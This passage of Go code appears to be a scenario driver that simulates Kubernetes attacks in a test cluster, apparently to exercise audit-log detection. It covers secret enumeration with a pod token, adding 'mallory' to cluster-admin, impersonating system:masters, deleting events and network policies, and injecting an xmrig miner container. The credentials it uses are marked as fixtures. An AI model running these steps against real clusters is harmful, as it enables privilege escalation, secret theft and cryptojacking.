	if err != nil {
		return "", err
	}
	cs := d.ClientVia(Node1, Remote{UserAgent: KubeletUserAgent})
	tr, err := cs.CoreV1().ServiceAccounts("prod").CreateToken(d.Ctx, "web", &authnv1.TokenRequest{Spec: authnv1.TokenRequestSpec{
		// No audience: the apiserver's own, as for the kube-api-access projected volume.
		ExpirationSeconds: ptr.To[int64](3607),
		BoundObjectRef:    &authnv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: p.Name, UID: p.UID}}}, metav1.CreateOptions{})
	if err != nil {
		return "", err
	}
	d.Minted(tr.Status.Token)
	return tr.Status.Token, nil
}

// prodWebPodOnNode1 is a prod/web pod the scheduler put on node-1 (the node authorizer
// lets node-1 mint tokens only for pods bound to it).
func (d *Driver) prodWebPodOnNode1() (string, error) {
	pods, err := d.WaitPods("prod", "web", 2, 30*time.Second)
	if err != nil {
		return "", err
	}
	for _, p := range pods {
		if n, err := d.WaitScheduled("prod", p, 30*time.Second); err == nil && n == "node-1" {
			return p, nil
		}
	}
	return "", errors.New("no prod/web pod on node-1")
}

func runSecretEnumeration(d *Driver) error {
	pod, err := d.prodWebPodOnNode1()
	if err != nil {
		return err
	}
	tok, err := d.webPodToken(pod)
	if err != nil {
		return err
	}
	// First from inside the cluster (no forwarded address), as the application would.
	if _, err := d.TokenClient(tok, Remote{UserAgent: "web/1.4.2"}).CoreV1().Secrets("prod").Get(d.Ctx, "db-credentials", metav1.GetOptions{}); err != nil {
		return err
	}
	cs := d.TokenClient(tok, Remote{UserAgent: uaPythonRequests, IP: AttackerIP})
	for i := 1; i <= 12; i++ {
		if _, err := cs.CoreV1().Secrets("prod").Get(d.Ctx, fmt.Sprintf("app-secret-%02d", i), metav1.GetOptions{}); err != nil {
			return err
		}
	}
	if _, err := cs.CoreV1().Secrets("prod").Get(d.Ctx, "regcred", metav1.GetOptions{}); err != nil {
		return err
	}
	if _, err := cs.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{}); !apierrors.IsForbidden(err) {
		return fmt.Errorf("kube-system secrets as prod/web: want 403, got %v", err)
	}
	return nil
}

func runTokenAfterDelete(d *Driver) error {
	pod := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "batch-worker", Namespace: "prod"}, Spec: corev1.PodSpec{
		NodeName: "node-1", ServiceAccountName: "web",
		Containers: []corev1.Container{{Name: "worker", Image: "registry.example.com/shop/worker:1.4.2",
			SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false)}}}}}
	if _, err := d.Client(Admin).CoreV1().Pods("prod").Create(d.Ctx, pod, metav1.CreateOptions{}); err != nil {
		return err
	}
	tok, err := d.webPodToken("batch-worker")
	if err != nil {
		return err
	}
	cs := d.TokenClient(tok, Remote{UserAgent: uaCurl, IP: AttackerIP})
	if _, err := cs.CoreV1().Secrets("prod").Get(d.Ctx, "db-credentials", metav1.GetOptions{}); err != nil {
		return err
	}
	if _, err := d.Kubectl(Admin, "", "delete", "pod", "batch-worker", "-n", "prod", "--grace-period=0", "--force"); err != nil {
		return err
	}
	// The apiserver caches a successful token authentication for 10 seconds: the token
	// keeps working that long after its pod is gone. One request a second shows it.
	deleted := time.Now()
	for i := 0; i < 30; i++ {
		_, err = cs.CoreV1().Secrets("prod").Get(d.Ctx, "db-credentials", metav1.GetOptions{})
		if apierrors.IsUnauthorized(err) {
			d.Note("token bound to the deleted pod refused %.0fs after the deletion (%d requests accepted after it)", time.Since(deleted).Seconds(), i)
			return nil
		}
		time.Sleep(time.Second)
	}
	return fmt.Errorf("token bound to a deleted pod still accepted: %v", err)
}

func runWildcardRole(d *Driver) error {
	m := `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: ops-all}
rules:
  - apiGroups: ["*"]
    resources: ["*"]
    verbs: ["*"]
`
	if err := d.Apply(CIDeployer, m); err != nil {
		return err
	}
	_, err := d.Kubectl(CIDeployer, "", "create", "clusterrolebinding", "ops-all-bob", "--clusterrole=ops-all", "--user=bob")
	if err != nil {
		return err
	}
	if _, err = d.Kubectl(CIDeployer, "", "delete", "clusterrolebinding", "ops-all-bob"); err != nil {
		return err
	}
	// The same grant slipped into an existing Role with a JSON patch, then taken out.
	role, err := d.Client(CIDeployer).RbacV1().Roles("team-a").Get(d.Ctx, "reader", metav1.GetOptions{})
	if err != nil {
		return err
	}
	add := `[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`
	if _, err := d.Kubectl(CIDeployer, "", "patch", "role", "reader", "-n", "team-a", "--type=json", "-p", add); err != nil {
		return err
	}
	n := len(role.Rules)
	rm := fmt.Sprintf(`[{"op":"test","path":"/rules/%d/verbs/0","value":"*"},{"op":"remove","path":"/rules/%d"}]`, n, n)
	_, err = d.Kubectl(CIDeployer, "", "patch", "role", "reader", "-n", "team-a", "--type=json", "-p", rm)
	return err
}

func runRiskyRoles(d *Driver) error {
	m := `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: rbac-manager}
rules:
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [clusterroles, roles]
    verbs: [escalate, bind]
  - apiGroups: [""]
    resources: [users, groups, serviceaccounts]
    verbs: [impersonate]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: token-minter, namespace: kube-system}
rules:
  - apiGroups: [""]
    resources: [serviceaccounts/token]
    verbs: [create]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: debugger}
rules:
  - apiGroups: [""]
    resources: [pods/exec, pods/attach]
    verbs: [create, get]
  - apiGroups: [""]
    resources: [nodes/proxy]
    verbs: [get]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: secret-reader, namespace: prod}
rules:
  - apiGroups: [""]
    resources: [secrets]
    verbs: [get, list, watch]
  - apiGroups: [rbac.authorization.k8s.io]
    resources: [rolebindings]
    verbs: [create, update, patch]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: secret-writer, namespace: prod}
rules:
  - apiGroups: [""]
    resources: [secrets]
    verbs: [create, update, patch, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: default-edit, namespace: team-a}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: edit}
subjects: [{kind: ServiceAccount, name: default, namespace: team-a}]
`
	return d.Apply(CIDeployer, m)
}

func runPatchClusterAdmin(d *Driver) error {
	add := `[{"op":"add","path":"/subjects/-","value":{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"mallory"}}]`
	if _, err := d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "cluster-admin", "--type=json", "-p", add); err != nil {
		return err
	}
	crb, err := d.Client(CIDeployer).RbacV1().ClusterRoleBindings().Get(d.Ctx, "cluster-admin", metav1.GetOptions{})
	if err != nil {
		return err
	}
	idx := -1
	for i, s := range crb.Subjects {
		if s.Name == "mallory" {
			idx = i
		}
	}
	if idx < 0 {
		return errors.New("mallory not in cluster-admin after the patch")
	}
	rm := fmt.Sprintf(`[{"op":"test","path":"/subjects/%d/name","value":"mallory"},{"op":"remove","path":"/subjects/%d"}]`, idx, idx)
	if _, err = d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "cluster-admin", "--type=json", "-p", rm); err != nil {
		return err
	}
	// A merge patch replaces the whole subjects list: the new list holds the old subject
	// and the added one.
	me := `{"apiGroup":"rbac.authorization.k8s.io","kind":"User","name":"ci-deployer"}`
	if _, err := d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "ci-deployer-admin", "--type=merge", "-p",
		`{"subjects":[`+me+`,{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"contractors"}]}`); err != nil {
		return err
	}
	_, err = d.Kubectl(CIDeployer, "", "patch", "clusterrolebinding", "ci-deployer-admin", "--type=merge", "-p", `{"subjects":[`+me+`]}`)
	return err
}

func runImpersonation(d *Driver) error {
	if _, err := d.Kubectl(CIDeployer, "", "get", "secrets", "-n", "kube-system", "--as=system:admin", "--as-group=system:masters"); err != nil {
		return err
	}
	_, _ = d.Kubectl(Alice, "", "get", "secrets", "-n", "kube-system", "--as=system:admin", "--as-group=system:masters")
	return nil
}

func runCSRMasters(d *Driver) error {
	req, err := newCSR("kube-admin-backup", "system:masters")
	if err != nil {
		return err
	}
	// The apiserver refuses system:masters for the kube-apiserver-client signer; an
	// attacker then tries a signer of their own naming, which nothing in the cluster signs.
	if _, err := d.Kubectl(CIDeployer, csrManifest("kube-admin-backup", "kubernetes.io/kube-apiserver-client", req), "create", "-f", "-"); err == nil {
		return errors.New("a system:masters CSR for kubernetes.io/kube-apiserver-client was admitted")
	}
	if _, err := d.Kubectl(CIDeployer, csrManifest("kube-admin-backup", "example.com/internal-ca", req), "create", "-f", "-"); err != nil {
		return err
	}
	_, err = d.Kubectl(CIDeployer, "", "certificate", "approve", "kube-admin-backup")
	return err
}

func runDenialBurst(d *Driver) error {
	cs := d.Client(Bob)
	for i := 0; i < 25; i++ {
		var err error
		switch i % 5 {
		case 0:
			_, err = cs.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{})
		case 1:
			_, err = cs.CoreV1().Secrets("team-a").Get(d.Ctx, "api-key", metav1.GetOptions{})
		case 2:
			err = cs.AppsV1().Deployments("prod").Delete(d.Ctx, "web", metav1.DeleteOptions{})
		case 3:
			_, err = cs.RbacV1().ClusterRoleBindings().List(d.Ctx, metav1.ListOptions{})
		case 4:
			_, err = cs.CoreV1().Pods("kube-system").Create(d.Ctx, &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("probe-%d", i)},
				Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "c", Image: "docker.io/library/busybox:1.36"}}}}, metav1.CreateOptions{})
		}
		if !apierrors.IsForbidden(err) {
			return fmt.Errorf("bob request %d: want 403, got %v", i, err)
		}
	}
	return nil
}

func runOffensiveUA(d *Driver) error {
	cs, err := d.backdoor(uaAccessMatrix)
	if err != nil {
		return err
	}
	resources := []string{"pods", "secrets", "configmaps", "deployments", "daemonsets", "serviceaccounts", "roles", "rolebindings", "clusterroles", "nodes"}
	verbs := []string{"get", "list", "create"}
	for _, r := range resources {
		for _, v := range verbs {
			if _, err := cs.AuthorizationV1().SelfSubjectAccessReviews().Create(d.Ctx, &authzv1.SelfSubjectAccessReview{Spec: authzv1.SelfSubjectAccessReviewSpec{
				ResourceAttributes: &authzv1.ResourceAttributes{Verb: v, Resource: r}}}, metav1.CreateOptions{}); err != nil {
				return err
			}
		}
	}
	p, err := d.backdoor(uaPeirates)
	if err != nil {
		return err
	}
	if _, err := p.CoreV1().Pods("").List(d.Ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	if _, err = p.CoreV1().Secrets("kube-system").List(d.Ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	h, err := d.backdoor(uaAzureHound)
	if err != nil {
		return err
	}
	if _, err := h.CoreV1().Namespaces().List(d.Ctx, metav1.ListOptions{}); err != nil {
		return err
	}
	_, err = h.CoreV1().Nodes().List(d.Ctx, metav1.ListOptions{})
	return err
}

func runNodeSecrets(d *Driver) error {
	cs := d.ClientVia(Node1, Remote{UserAgent: KubeletUserAgent})
	if _, err := cs.CoreV1().Secrets("").List(d.Ctx, metav1.ListOptions{}); !apierrors.IsForbidden(err) {
		return fmt.Errorf("node-1 listing secrets: want 403, got %v", err)
	}
	if _, err := cs.CoreV1().Secrets("kube-system").Get(d.Ctx, "kube-metrics-agent-token", metav1.GetOptions{}); !apierrors.IsForbidden(err) {
		return fmt.Errorf("node-1 reading a secret: want 403, got %v", err)
	}
	return nil
}

func runEventsDeleted(d *Driver) error {
	if _, err := d.Kubectl(CIDeployer, "", "delete", "events", "--all", "-n", "team-a"); err != nil {
		return err
	}
	return d.Client(CIDeployer).CoreV1().Events("kube-system").DeleteCollection(d.Ctx, metav1.DeleteOptions{}, metav1.ListOptions{})
}

func runNetpolDeleted(d *Driver) error {
	_, err := d.Kubectl(CIDeployer, "", "delete", "networkpolicy", "default-deny", "-n", "prod")
	return err
}

func runDeletionBurst(d *Driver) error {
	cs := d.Client(CIDeployer)
	for i := 0; i < 22; i++ {
		if _, err := cs.CoreV1().ConfigMaps("team-a").Create(d.Ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("cache-%02d", i)},
			Data: map[string]string{"n": fmt.Sprint(i)}}, metav1.CreateOptions{}); err != nil {
			return err
		}
	}
	for i := 0; i < 22; i++ {
		if _, err := d.Kubectl(CIDeployer, "", "delete", "configmap", fmt.Sprintf("cache-%02d", i), "-n", "team-a"); err != nil {
			return err
		}
	}
	return nil
}

func runConfigMapCreds(d *Driver) error {
	m := `apiVersion: v1
kind: ConfigMap
metadata: {name: legacy-env, namespace: team-a}
data:
  AWS_ACCESS_KEY_ID: AKIAFIXTURE0EXAMPLE0
  AWS_SECRET_ACCESS_KEY: fixtureSecretAccessKeyNotReal0000000000
  DATABASE_URL: postgres://ledger:fixture-db-password@ledger-db.payments:5432/ledger
`
	if err := d.Apply(Alice, m); err != nil {
		return err
	}
	// Credentials inside values whose keys say nothing: a properties file, a JDBC URL, a
	// PEM block (fixture values, not keys of anything).
	m2 := `apiVersion: v1
kind: ConfigMap
metadata: {name: billing-app, namespace: team-a}
data:
  application.properties: |
    billing.region=eu-west-1
    aws.accessKeyId=AKIAFIXTURE1EXAMPLE1
    aws.secretKey=fixtureSecretKeyNotReal1111111111111111
  datasource: jdbc:postgresql://ledger-db.payments:5432/ledger?user=billing&password=fixture-jdbc-password
  bundle: |
    -----BEGIN PRIVATE KEY-----
    Zml4dHVyZS1ub3QtYS1yZWFsLWtleS1maXh0dXJlLW5vdC1hLXJlYWwta2V5LWZpeHR1cmU=
    -----END PRIVATE KEY-----
`
	return d.Apply(Alice, m2)
}

func runInjectContainer(d *Driver) error {
	d.Caused("team-a", "shop")
	p := `{"spec":{"template":{"spec":{"containers":[{"name":"metrics","image":"docker.io/xmrig/xmrig:6.22.2","args":["-o","pool.example.net:3333"]}]}}}}`
	_, err := d.Kubectl(Alice, "", "patch", "deployment", "shop", "-n", "team-a", "--type=strategic", "-p", p)
	return err
}

func runTaintRemoved(d *Driver) error {
	const taint = "node-role.kubernetes.io/control-plane:NoSchedule"
	if _, err := d.Kubectl(CIDeployer, "", "taint", "nodes", "cp-1", taint+"-"); err != nil {
		return err
	}
	time.Sleep(time.Second)
	_, err := d.Kubectl(CIDeployer, "", "taint", "nodes", "cp-1", taint)
	return err
}

func b64(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

func contextWithTimeout(d *Driver, t time.Duration) (context.Context, context.CancelFunc) {
	return context.WithTimeout(d.Ctx, t)
}

// dialOnce opens and closes one TCP connection to addr (on 127.0.0.1).
func dialOnce(addr string) bool {
	c, err := net.DialTimeout("tcp", addr, 200*time.Millisecond)
	if err != nil {
		return false
	}
	c.Close()
	return true
}
